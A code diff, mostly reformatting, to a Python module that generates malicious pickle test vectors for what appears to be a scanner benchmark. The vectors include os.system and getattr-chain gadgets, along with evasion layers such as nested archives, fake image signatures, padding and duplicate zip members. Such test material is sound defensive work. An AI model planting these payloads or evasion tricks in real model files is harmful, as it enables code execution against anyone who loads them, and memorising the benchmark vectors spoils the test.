@@ -1,3 +1,4 @@
+# ruff: noqa: E501, FBT003 - payloads stand in one line each; arguments of the gadgets are what they are
 """Malicious pickles of this benchmark's own: each gadget in a container, and combinations of tricks."""
 
 from __future__ import annotations
@@ -9,6 +10,7 @@ import zlib
 from typing import TYPE_CHECKING
 
 import gadgets
+
 from vectors.asm import CODE, COMMAND, Raw, Vector, benign, call, obj, payload, pickle, push, ref, text
 from vectors.containers import npy
 from vectors.writers import Member, archive, gz, lz4, seven, tar, zstd
@@ -20,7 +22,12 @@ Pair = tuple[str, tuple[object, ...]]
 
 
 def torch_zip(data: bytes) -> bytes:
-    return archive(Member("archive/data.pkl", data), Member("archive/byteorder", b"little"), Member("archive/data/0", bytes(64)), Member("archive/version", b"3\n"))
+    return archive(
+        Member("archive/data.pkl", data),
+        Member("archive/byteorder", b"little"),
+        Member("archive/data/0", bytes(64)),
+        Member("archive/version", b"3\n"),
+    )
 
 
 CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
@@ -52,34 +59,65 @@ def vectors(seed: int) -> Iterator[tuple[str, Vector]]:
             yield group, _wrapped(label, pair, expect, draw)
     for found in gadgets.RESOLVERS:
         name = found[2 : 2 + found[1]].decode()
-        yield "held-out", Vector("gadget-resolver", f"{name} then call", "model.pkl", pickle(call(found, COMMAND)))
+        yield (
+            "held-out",
+            Vector("gadget-resolver", f"{name} then call", "model.pkl", pickle(call(found, COMMAND))),
+        )
     for path in gadgets.NAMES:
         yield "held-out", Vector("gadget-name-alone", path, "model.pkl", pickle(ref(path)), "not-clean")
     for name, body in combinations().items():
-        yield "held-out", Vector("combination", name, "model.pkl", pickle(body, version=4), "not-clean" if name in SOFT else "dangerous")
+        yield (
+            "held-out",
+            Vector(
+                "combination",
+                name,
+                "model.pkl",
+                pickle(body, version=4),
+                "not-clean" if name in SOFT else "dangerous",
+            ),
+        )
     for name, (file, data) in layers().items():
-        yield "held-out", Vector("combination", name, file, data, "not-clean" if name in SOFT else "dangerous")
+        yield (
+            "held-out",
+            Vector("combination", name, file, data, "not-clean" if name in SOFT else "dangerous"),
+        )
 
 
 def _wrapped(label: str, pair: Pair, expect: str, draw: random.Random) -> Vector:
     path, arguments = pair
     inner = b"".join(push(item) for item in arguments)
     plain = gadgets.fits(path, 2) and b"\x93" not in inner and b"\x8c" not in inner
-    version = draw.choice((0, 2, 4) if plain and not any(isinstance(item, bytes) for item in arguments) else (4, 4, 5))
+    version = draw.choice(
+        (0, 2, 4) if plain and not any(isinstance(item, bytes) for item in arguments) else (4, 4, 5)
+    )
     file = draw.choice(list(CONTAINERS)) if draw.random() < 0.5 else "model.pkl"
     hit = call(path, *arguments, version=version)
     style = draw.choice(("bare", "value", "dropped"))
     if version == 0:
         style = "bare"
-    body = {"bare": hit, "value": Raw(b"}" + push("weights", version) + hit + b"s"), "dropped": Raw(hit + b"0}")}[style]
-    return Vector(label, f"{path}, protocol {version}, {style}", file, CONTAINERS[file](pickle(body, version=version)), "dangerous" if expect == "dangerous" else "not-clean")
+    body = {
+        "bare": hit,
+        "value": Raw(b"}" + push("weights", version) + hit + b"s"),
+        "dropped": Raw(hit + b"0}"),
+    }[style]
+    return Vector(
+        label,
+        f"{path}, protocol {version}, {style}",
+        file,
+        CONTAINERS[file](pickle(body, version=version)),
+        "dangerous" if expect == "dangerous" else "not-clean",
+    )
 
 
 def combinations() -> dict[str, Raw]:
     system, run = ref("os:system"), push((COMMAND,))
     builtin = call("builtins:__import__", "os")
     getter = ref("builtins:getattr")
-    chain = call(getter, call(getter, call(getter, ref("collections:OrderedDict"), "__init__"), "__class__"), "__call__")
+    chain = call(
+        getter,
+        call(getter, call(getter, ref("collections:OrderedDict"), "__init__"), "__class__"),
+        "__call__",
+    )
     return {
         "getattr of an import": Raw(call(getter, builtin, "system") + run + b"R"),
         "getattr chain to subclasses": Raw(call(getter, ref("builtins:object"), "__subclasses__") + b")R"),
@@ -126,20 +164,58 @@ def combinations() -> dict[str, Raw]:
 
 def layers() -> dict[str, tuple[str, bytes]]:
     hit, clean = payload(2), benign(2)
-    double = archive(Member("archive/data.pkl", clean), Member("archive/data.pkl", hit, crc=1), Member("archive/version", b"3\n"))
+    double = archive(
+        Member("archive/data.pkl", clean),
+        Member("archive/data.pkl", hit, crc=1),
+        Member("archive/version", b"3\n"),
+    )
     return {
         "duplicate with a bad checksum": ("model.pt", double),
-        "flag bit and prefix": ("model.pt", archive(Member("archive/data.pkl", hit, flags=1), Member("archive/version", b"3\n"), prefix=b"GIF89a", shift=1)),
-        "joblib in a zip in a tar": ("model.tar", tar({"a.zip": archive(Member("m.joblib", zlib.compress(hit)))})),
+        "flag bit and prefix": (
+            "model.pt",
+            archive(
+                Member("archive/data.pkl", hit, flags=1),
+                Member("archive/version", b"3\n"),
+                prefix=b"GIF89a",
+                shift=1,
+            ),
+        ),
+        "joblib in a zip in a tar": (
+            "model.tar",
+            tar({"a.zip": archive(Member("m.joblib", zlib.compress(hit)))}),
+        ),
         "zstd of a torch zip": ("model.pt.zst", zstd(torch_zip(hit))),
         "lz4 of an npy": ("weights.npy.lz4", lz4(npy(hit))),
         "7z of a gz": ("model.bin", seven("a.gz", gz(hit))),
         "truncated zip of a pickle": ("model.pt", torch_zip(hit)[:-40]),
         "stream behind a safetensors header": ("model.bin", hit + b"\x10\x00\x00\x00\x00\x00\x00\x00{}"),
-        "numpy in a pickle in a zip": ("model.npz", archive(Member("arr_0.npy", npy(pickle(call("numpy:load", "/nonexistent/x.npy", None, True) + b"0" + call("os:system", COMMAND)))))),
-        "pickle with a signature of a picture": ("model.pkl", pickle(push(b"\x89PNG\r\n\x1a\n") + b"0" + call("os:system", COMMAND))),
-        "a hundred thousand opcodes first": ("model.pkl", pickle(b"N0" * 100000 + call("os:system", COMMAND))),
-        "a megabyte of bytes first": ("model.pkl", b"\x80\x04B\x00\x00\x10\x00" + bytes(1 << 20) + b"0" + call("os:system", COMMAND) + b"."),
+        "numpy in a pickle in a zip": (
+            "model.npz",
+            archive(
+                Member(
+                    "arr_0.npy",
+                    npy(
+                        pickle(
+                            call("numpy:load", "/nonexistent/x.npy", None, True)
+                            + b"0"
+                            + call("os:system", COMMAND)
+                        )
+                    ),
+                )
+            ),
+        ),
+        "pickle with a signature of a picture": (
+            "model.pkl",
+            pickle(push(b"\x89PNG\r\n\x1a\n") + b"0" + call("os:system", COMMAND)),
+        ),
+        "a hundred thousand opcodes first": (
+            "model.pkl",
+            pickle(b"N0" * 100000 + call("os:system", COMMAND)),
+        ),
+        "a megabyte of bytes first": (
+            "model.pkl",
+            b"\x80\x04B\x00\x00\x10\x00" + bytes(1 << 20) + b"0" + call("os:system", COMMAND) + b".",
+        ),
         "a deep list around": ("model.pkl", pickle(b"]" * 2000 + call("os:system", COMMAND) + b"a" * 2000)),
         "two bytes of comment first": ("model.pkl", b"NN" + payload(2)[2:]),
         "protocol said nine": ("model.pkl", b"\x80\x09" + payload(2)[2:]),
